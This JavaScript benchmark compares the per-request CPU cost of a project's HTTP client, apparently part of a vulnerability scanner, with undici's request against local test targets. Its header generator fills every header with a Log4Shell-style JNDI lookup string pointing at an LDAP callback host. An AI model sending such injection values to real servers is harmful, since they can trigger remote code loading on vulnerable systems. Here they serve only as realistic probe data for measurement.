import { setTimeout as sleep } from 'node:timers/promises'
import { Agent, request } from 'undici'
import { defaultWebLimits, openWeb, systemClock } from '../../dist/node/index.js'
import { headerNames } from '../../dist/probe/points/header-names.js'
import { writeRequest } from '../../dist/probe/write-request.js'
import { openLiveTargets } from './open-targets.mjs'

const targets = 50
const inFlight = 32
const requestsPerRound = 8_000
const rounds = 5

/** CPU of this process for each request, ours beside undici's plain `request`, with the header list of a real probe. */
export async function compareClientCpu() {
  const live = await openLiveTargets(targets)
  const agent = new Agent({ connections: 4, keepAliveTimeout: 5_000 })
  const web = openWeb({
    ...defaultWebLimits,
    strictTls: false,
    clientCertificate: null,
    proxy: null,
    admit: () => null,
    clock: systemClock,
  })
  try {
    const headers = probeHeaders()
    const plain = Object.fromEntries(headers)
    const destinations = live.urls.map((url) => {
      const { hostname, port } = new URL(url)
      return { url, to: { secure: false, host: hostname, port: Number(port) } }
    })
    const prebuilt = destinations.map(({ to }) => write(headers, to))
    const { signal } = new AbortController()
    const clients = {
      'ours, bytes prebuilt': async (i) =>
        expectAnswer(await web.send({ to: destinations[i].to, bytes: prebuilt[i], method: 'GET' }, signal)),
      'ours, bytes written for each': async (i) => {
        const { to } = destinations[i]
        expectAnswer(await web.send({ to, bytes: write(headers, to), method: 'GET' }, signal))
      },
      'undici request': async (i) => {
        const { statusCode, body } = await request(destinations[i].url, { headers: plain, dispatcher: agent })
        await body.dump()
        if (statusCode !== 200) throw new Error(`status ${statusCode}`)
      },
    }
    const measured = Object.fromEntries(Object.keys(clients).map((name) => [name, []]))
    for (const [, send] of Object.entries(clients)) await measure(send, 2_000)
    for (let round = 0; round < rounds; round++) {
      for (const [name, send] of Object.entries(clients)) measured[name].push(await measure(send, requestsPerRound))
    }
    return {
      headers: headers.length,
      measured: Object.entries(measured).map(([name, all]) => ({ name, ...median(all) })),
    }
  } finally {
    await web.close()
    await agent.close()
    live.close()
  }
}

/** Every header of the probe's list that an ordinary client can send too, each with a lookup as long as a real one. */
function probeHeaders() {
  const refusedByOthers = new Set([
    'host',
    'content-length',
    'transfer-encoding',
    'connection',
    'expect',
    'upgrade',
    'te',
  ])
  const value = (i) => `\${jndi:ldap://abcdefghijklmnop${String(i).padStart(2, '0')}.cb.example:1389/n}`
  return headerNames.filter((name) => !refusedByOthers.has(name.toLowerCase())).map((name, i) => [name, value(i)])
}

function write(headers, to) {
  return writeRequest({ method: 'GET', target: '/', headers, body: null }, to)
}

function expectAnswer(outcome) {
  if (outcome.is !== 'answered' || outcome.status !== 200) throw new Error(JSON.stringify(outcome))
}

async function measure(send, count) {
  await sleep(50)
  let next = 0
  const before = process.cpuUsage()
  const started = performance.now()
  await Promise.all(
    Array.from({ length: inFlight }, async () => {
      while (next < count) await send(next++ % targets)
    }),
  )
  const seconds = (performance.now() - started) / 1_000
  const { user, system } = process.cpuUsage(before)
  return { perSecond: count / seconds, cpuUs: (user + system) / count }
}

function median(all) {
  return all.sort((a, b) => a.cpuUs - b.cpuUs)[Math.floor(all.length / 2)]
}
